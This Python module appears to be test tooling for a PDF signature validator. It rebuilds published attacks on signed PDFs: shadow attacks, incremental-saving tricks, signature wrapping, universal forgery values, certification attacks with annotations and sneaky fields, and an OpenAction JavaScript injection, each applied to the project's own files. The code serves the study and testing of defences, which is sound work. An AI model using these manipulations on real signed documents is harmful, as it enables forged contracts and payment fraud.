"""The published attacks on signed PDFs, each built anew in a few lines on our own documents.

Source: Mladenov and others, 1 Trillion Dollar Refund (CCS 2019): universal signature forgery,
incremental saving, signature wrapping; Mainka and others, Shadow Attacks (NDSS 2021); Rohlmann
and others, Breaking the Specification: PDF Certification (S&P 2021): evil annotation, sneaky
signature.
"""

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PageObject

OVERLAY = b"1 1 1 rg 60 380 420 120 re f 0 0 0 rg 80 400 300 40 re f"
COVER = b"1 1 1 rg 0 0 420 120 re f 0 0 0 rg 20 20 300 40 re f"


def name(words):
    return generic.pdf_name(f"/{words}")


def numbers(*values):
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def grown(raw, change, **options):
    """Append a revision as a writer of PDFs would."""
    writer = IncrementalPdfFileWriter(io.BytesIO(raw), strict=False)
    change(writer, **options)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def appearance(drawing, width=420, height=120):
    made = generic.StreamObject(stream_data=drawing)
    made.update(
        {
            name("Type"): name("XObject"),
            name("Subtype"): name("Form"),
            name("BBox"): numbers(0, 0, width, height),
        }
    )
    return made


def page_of(writer, number=0):
    page, _ = writer.find_page_for_modification(number)
    writer.mark_update(page)
    return page.get_object()


# --- shadow attacks and changes of what is shown -------------------------------------------


def shadow_hide(writer):
    """Take away the picture that lay over the hidden words when it was signed."""
    cover = page_of(writer)["/Resources"]["/XObject"].raw_get("/Cover")
    cover.get_object()._data = b" "
    cover.get_object()._encoded_data = None
    writer.mark_update(cover)


def shadow_replace(writer):
    """Keep a field's value, exchange its picture."""
    field = _field(writer, "amount")
    field["/AP"] = generic.DictionaryObject(
        {name("N"): writer.add_object(appearance(b"0 0 0 rg 0 0 100 12 re f", 200, 20))}
    )


def shadow_hide_and_replace(writer):
    """Point the page tree at a page that lay hidden in the signed revision."""
    tree = writer.root["/Pages"]
    hidden = writer.root["/PieceInfo"].raw_get("/Hidden")
    tree["/Kids"] = generic.ArrayObject([hidden])
    writer.mark_update(writer.root.raw_get("/Pages"))


def new_contents(writer):
    made = writer.add_object(generic.StreamObject(stream_data=OVERLAY))
    page_of(writer)["/Contents"] = made


def more_contents(writer):
    stream = writer.add_object(generic.StreamObject(stream_data=b"q " + OVERLAY + b" Q"))
    writer.add_stream_to_page(0, stream, generic.DictionaryObject())


def contents_in_object_stream(writer):
    """Exchange the page itself inside a compressed object stream."""
    made = writer.add_object(generic.StreamObject(stream_data=OVERLAY))
    page = page_of(writer)
    page["/Contents"] = made
    packed = writer.prepare_object_stream()
    reference = writer.find_page_for_modification(0)[0].reference
    writer.objects.pop((reference.generation, reference.idnum), None)
    packed.add_object(reference.idnum, page)


def added_page(writer):
    empty = writer.add_object(generic.StreamObject(stream_data=b"0 0 50 50 re f"))
    writer.insert_page(PageObject(contents=empty, media_box=(0, 0, 300, 300)))


def removed_page(writer):
    tree = writer.root["/Pages"]
    tree["/Kids"] = generic.ArrayObject([tree["/Kids"].raw_get(0)])
    tree["/Count"] = generic.NumberObject(1)
    writer.mark_update(writer.root.raw_get("/Pages"))


def turned_page(writer):
    page_of(writer)["/Rotate"] = generic.NumberObject(180)


def cropped_page(writer):
    page_of(writer)["/CropBox"] = numbers(0, 0, 300, 300)


def swapped_font(writer):
    """Let the same codes show other letters."""
    page = page_of(writer)
    font = page["/Resources"]["/Font"]["/F1"]
    font["/BaseFont"] = name("Symbol")
    writer.mark_update(page["/Resources"]["/Font"].raw_get("/F1"))


def swapped_image(writer):
    cover = page_of(writer)["/Resources"]["/XObject"].raw_get("/Cover")
    cover.get_object()._data = b"0 1 0 rg 0 0 420 120 re f"
    cover.get_object()._encoded_data = None
    writer.mark_update(cover)


def changed_value(writer):
    """Exchange a filled field's value with its picture."""
    field = _field(writer, "amount")
    field["/V"] = generic.pdf_string("9.999 lei")
    shadow_replace(writer)


def drawn_anew(writer):
    """Ask readers to draw the form's fields again, from what they hold."""
    form = writer.root["/AcroForm"]
    form[name("NeedAppearances")] = generic.BooleanObject(True)
    writer.update_container(form)


def javascript(writer):
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {name("S"): name("JavaScript"), name("JS"): generic.pdf_string("app.alert(1)")}
    )
    writer.update_root()


def layer_off(writer):
    """Hide content by switching an optional content group."""
    group = writer.add_object(
        generic.DictionaryObject({name("Type"): name("OCG"), name("Name"): generic.pdf_string("x")})
    )
    writer.root["/OCProperties"] = generic.DictionaryObject(
        {
            name("OCGs"): generic.ArrayObject([group]),
            name("D"): generic.DictionaryObject({name("OFF"): generic.ArrayObject([group])}),
        }
    )
    writer.update_root()


def _field(writer, wanted):
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field.get("/T") == wanted:
            writer.mark_update(field.container_ref)
            return field
    raise KeyError(wanted)


# --- certification attacks -----------------------------------------------------------------


def annotation(writer, subtype="FreeText"):
    """Add an annotation that covers what is certified."""
    note = generic.DictionaryObject(
        {
            name("Type"): name("Annot"),
            name("Subtype"): name(subtype),
            name("Rect"): numbers(60, 380, 480, 500),
            name("Contents"): generic.pdf_string("9.999 lei"),
            name("F"): generic.NumberObject(4),
            name("AP"): generic.DictionaryObject({name("N"): writer.add_object(appearance(COVER))}),
        }
    )
    page = page_of(writer)
    annotations = page.get("/Annots", generic.ArrayObject())
    page["/Annots"] = generic.ArrayObject([*annotations, writer.add_object(note)])


def unsigned_field(writer):
    """Add a signature field that is empty but has a picture over the certified words."""
    page = page_of(writer)
    field = generic.DictionaryObject(
        {
            name("Type"): name("Annot"),
            name("Subtype"): name("Widget"),
            name("FT"): name("Sig"),
            name("T"): generic.pdf_string("Sneaky"),
            name("Rect"): numbers(60, 380, 480, 500),
            name("F"): generic.NumberObject(4),
            name("P"): writer.find_page_for_modification(0)[0].reference
            and generic.IndirectObject(page.container_ref.idnum, 0, writer),
            name("AP"): generic.DictionaryObject({name("N"): writer.add_object(appearance(COVER))}),
        }
    )
    reference = writer.add_object(field)
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", ()), reference])
    form = writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject([*form["/Fields"], reference])
    if isinstance(writer.root.raw_get("/AcroForm"), generic.IndirectObject):
        writer.mark_update(writer.root.raw_get("/AcroForm"))
    writer.update_root()


# --- incremental saving: a body that a lenient reader takes, not a revision of the standard ---


def _page_object(raw):
    """Give the first page's object number."""
    return int(re.search(rb"/Kids\s*\[\s*(\d+) 0 R", raw).group(1))


def _evil_page(raw):
    number = _page_object(raw)
    tree = int(re.search(rb"/Parent\s+(\d+) 0 R", raw).group(1))
    return (
        (
            f"{number} 0 obj\n<</Type/Page/Parent {tree} 0 R/MediaBox[0 0 595 842]"
            f"/Contents {number + 900} 0 R/Resources<<>>>>\nendobj\n"
            f"{number + 900} 0 obj\n<</Length {len(OVERLAY)}>>stream\n"
        ).encode()
        + OVERLAY
        + b"\nendstream\nendobj\n"
    )


def saving_without_xref(raw):
    return raw + _evil_page(raw) + b"%%EOF\n"


def saving_without_end(raw):
    return raw + _evil_page(raw)


def saving_with_old_xref(raw):
    start = raw[raw.rindex(b"startxref") :]
    return raw + _evil_page(raw) + start


def saving_with_trailer_only(raw):
    trailer = raw[raw.rindex(b"startxref") :]
    root = re.findall(rb"/Root\s+\d+ \d+ R", raw)[-1]
    return raw + _evil_page(raw) + b"trailer\n<<" + root + b"/Size 2000>>\n" + trailer


def saving_with_copied_signature(raw):
    """Repeat the signature's object after an evil page, so that a reader finds one at the end."""
    at = raw.rindex(b"/ByteRange")
    start = raw.rfind(b" obj", 0, at)
    start = raw.rfind(b"\n", 0, start) + 1
    end = raw.index(b"endobj", at) + 6
    return raw + _evil_page(raw) + raw[start:end] + b"\n" + raw[raw.rindex(b"startxref") :]


def saving_with_xref(raw):
    """Append the evil page as a true revision, written by hand."""
    body = raw + _evil_page(raw)
    number = _page_object(raw)
    first = body.index(f"{number} 0 obj".encode(), len(raw))
    second = body.index(f"{number + 900} 0 obj".encode(), len(raw))
    before = int(raw[raw.rindex(b"startxref") + 9 :].split()[0])
    root = re.findall(rb"/Root\s+\d+ \d+ R", raw)[-1].decode()
    table = (
        f"xref\n{number} 1\n{first:010d} 00000 n \n{number + 900} 1\n{second:010d} 00000 n \n"
        f"trailer\n<<{root}/Size 2000/Prev {before}>>\nstartxref\n{len(body)}\n%%EOF\n"
    )
    return body + table.encode()


def hybrid_xref(raw):
    """Hide the evil page in a cross-reference stream beside an innocent table."""
    number = _page_object(raw)
    body = raw + _evil_page(raw)
    first = body.index(f"{number} 0 obj".encode(), len(raw))
    second = body.index(f"{number + 900} 0 obj".encode(), len(raw))
    before = int(raw[raw.rindex(b"startxref") + 9 :].split()[0])
    root = re.findall(rb"/Root\s+\d+ \d+ R", raw)[-1].decode()
    rows = b"".join(b"\x01" + at.to_bytes(4, "big") + b"\x00" for at in (first, second))
    stream_at = len(body)
    body += (
        f"1999 0 obj\n<</Type/XRef/W[1 4 1]/Index[{number} 1 {number + 900} 1]/Size 2000{root}"
        f"/Length {len(rows)}>>stream\n"
    ).encode()
    body += rows + b"\nendstream\nendobj\n"
    table = (
        f"xref\n0 0\ntrailer\n<<{root}/Size 2000/Prev {before}/XRefStm {stream_at}>>\n"
        f"startxref\n{len(body)}\n%%EOF\n"
    )
    return body + table.encode()


# --- wrapping: the signed second part moves back, and the gap before it is filled ---------------


def _range(raw):
    """Give the place and the four numbers of the last /ByteRange."""
    at = raw.rindex(b"/ByteRange")
    first, last = raw.index(b"[", at), raw.index(b"]", at)
    return first, last, [int(n) for n in raw[first + 1 : last].split()]


def wrapped_simple(raw):
    first, last, (a, b, c, d) = _range(raw)
    extra = b" " * 40
    moved = f"[{a} {b} {c + len(extra)} {d}".encode().ljust(last - first)
    return raw[:first] + moved + raw[last:c] + extra + raw[c:]


def wrapped_with_objects(raw):
    """Keep the old range, add a second one with evil objects inside the widened gap.

    The old ``startxref`` then points into the gap, where a table of the attacker's own stands.
    """
    _, _, (a, b, c, d) = _range(raw)
    at = int(raw[raw.rindex(b"startxref") + 9 :].split()[0])
    room = at - c + 4000
    number = _page_object(raw)
    head = f" /ByteRange [{a} {b} {c + room} {d}] >>\nendobj\n".encode()
    evil = head + _evil_page(raw)
    places = _table(raw[at:])
    places = {n: at if at < c else at + room for n, at in places.items()}
    places[number] = c + len(head)
    places[number + 900] = c + evil.index(f"{number + 900} 0 obj".encode())
    trailer = raw[raw.index(b"trailer", at) : raw.index(b"startxref", at)]
    rows = "".join(f"{n} 1\n{place:010d} 00000 n \n" for n, place in sorted(places.items()))
    table = f"xref\n{rows}".encode() + trailer + f"startxref\n{at}\n%%EOF\n".encode()
    middle = (evil.ljust(at - c, b"\n") + table).ljust(room)
    return raw[:c] + middle + raw[c:]


def words_behind_signature(raw):
    """Write into the zeros that fill the room kept for the signature."""
    _, _, (_, _, c, _) = _range(raw)
    hidden = b"ascuns".hex().encode()
    return raw[: c - 1 - 100] + hidden + raw[c - 1 - 100 + len(hidden) :]


def entry_behind_signature(raw):
    """End the signature early, and add an entry in the rest of its room."""
    _, _, (_, _, c, _) = _range(raw)
    hidden = b"> /Reason (ascuns) /Cut <"
    return raw[: c - 1 - 100] + hidden + raw[c - 1 - 100 + len(hidden) :]


def _table(raw):
    """Give the places of a cross-reference table's objects by number."""
    lines = raw[: raw.index(b"trailer")].split(b"\n")[1:]
    places, number = {}, 0
    for parts in map(bytes.split, lines):
        if len(parts) == 2:
            number = int(parts[0])
        elif len(parts) == 3:
            places[number] = int(parts[0])
            number += 1
    return places


# --- universal forgery: values that a careless check takes for good --------------------------


def _with_range(raw, words):
    first, last, _ = _range(raw)
    return raw[:first] + words.ljust(last + 1 - first)[: last + 1 - first] + raw[last + 1 :]


def _with_contents(raw, words):
    _, _, (_, b, c, _) = _range(raw)
    return raw[:b] + words.ljust(c - b) + raw[c:]


FORGED = {
    "range none": lambda raw: raw.replace(b"/ByteRange", b"/BiteRange"),
    "range null": lambda raw: _with_range(raw, b"null"),
    "range empty": lambda raw: _with_range(raw, b"[]"),
    "range zeros": lambda raw: _with_range(raw, b"[0 0 0 0]"),
    "range negative": lambda raw: _with_range(raw, b"[0 -1 -1 0]"),
    "range large": lambda raw: _with_range(raw, b"[0 99999999 99999999 1]"),
    "range of two": lambda raw: _with_range(raw, b"[0 100]"),
    "range of words": lambda raw: _with_range(raw, b"[(a) (b) (c)]"),
    "range whole": lambda raw: _with_range(raw, f"[0 {len(raw)} {len(raw)} 0]".encode()),
    "contents none": lambda raw: raw.replace(b"/Contents <", b"/Kontents <"),
    "contents null": lambda raw: _with_contents(raw, b"null"),
    "contents empty": lambda raw: _with_contents(raw, b"<>"),
    "contents zero": lambda raw: _with_contents(raw, b"<00>"),
    "contents zeros": lambda raw: _with_contents(raw, b"<" + b"0" * 400 + b">"),
    "type changed": lambda raw: raw.replace(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1 "),
    "filter none": lambda raw: raw.replace(b"/SubFilter", b"/SabFilter"),
}
"""Each leaves the length of the file as it was."""

REVISIONS = {
    made.__name__: made
    for made in (
        shadow_hide, shadow_replace, shadow_hide_and_replace, new_contents, more_contents,
        contents_in_object_stream, added_page, removed_page, turned_page, cropped_page,
        swapped_font, swapped_image, changed_value, javascript, layer_off, annotation,
        unsigned_field,
    )
}  # fmt: skip
"""Added as a writer of PDFs would."""

RAW = {
    made.__name__: made
    for made in (
        saving_without_xref, saving_without_end, saving_with_old_xref, saving_with_trailer_only,
        saving_with_copied_signature, saving_with_xref, hybrid_xref, wrapped_simple,
        wrapped_with_objects, words_behind_signature, entry_behind_signature,
    )
}  # fmt: skip
"""Written by hand."""


VOID = 900
"""Number of an object that a page refers to and that the file does not have."""


def _void_in_picture(writer, page, void):
    page["/Resources"]["/XObject"][name("Late")] = void
    drawn = page["/Contents"].data + b" q 1 0 0 1 60 200 cm /Late Do Q"
    page[name("Contents")] = writer.add_object(generic.StreamObject(stream_data=drawn))


def _void_in_contents(writer, page, void):
    page[name("Contents")] = generic.ArrayObject([page.raw_get("/Contents"), void])


def _void_in_notes(writer, page, void):
    page["/Annots"].append(void)


VOIDS = {
    "picture": (
        _void_in_picture,
        b"/Type /XObject /Subtype /Form /BBox [0 0 420 120] /Resources << /Font << /F1"
        b" << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
        b"BT /F1 24 Tf 10 10 Td (9.999 lei) Tj ET",
    ),
    "contents": (_void_in_contents, b"", b"BT /F1 24 Tf 60 200 Td (9.999 lei) Tj ET"),
    "notes": (
        _void_in_notes,
        b"/Type /Annot /Subtype /FreeText /Rect [60 200 400 300] /F 4 /Contents (9.999 lei)"
        b" /DA (/Helv 20 Tf 1 0 0 rg)",
        None,
    ),
}
"""How a page refers into the void before it is signed, and what is put there afterwards."""


def with_void(raw, way):
    """Give a document whose first page refers to an object that it does not have."""

    def change(writer):
        VOIDS[way][0](writer, page_of(writer), generic.IndirectObject(VOID, 0, writer))

    return grown(raw, change)


def filled_void(raw, way):
    """Give a signed document of this kind with the object added, and nothing else touched."""
    _, entries, drawn = VOIDS[way]
    body = b"<< " + entries + b" >>"
    if drawn is not None:
        body = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(drawn), drawn)
    place = len(raw) + 1
    added = raw + b"\n%d 0 obj\n%s\nendobj\n" % (VOID, body)
    trailer = raw[raw.rindex(b"trailer") : raw.rindex(b"startxref")]
    root = re.search(rb"/Root \d+ 0 R", trailer).group()
    before = int(raw[raw.rindex(b"startxref") + 9 :].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d %s /Prev %d >>\n" % (
        VOID, place, VOID + 1, root, before,
    )  # fmt: skip
    return added + table + b"startxref\n%d\n%%%%EOF\n" % len(added)
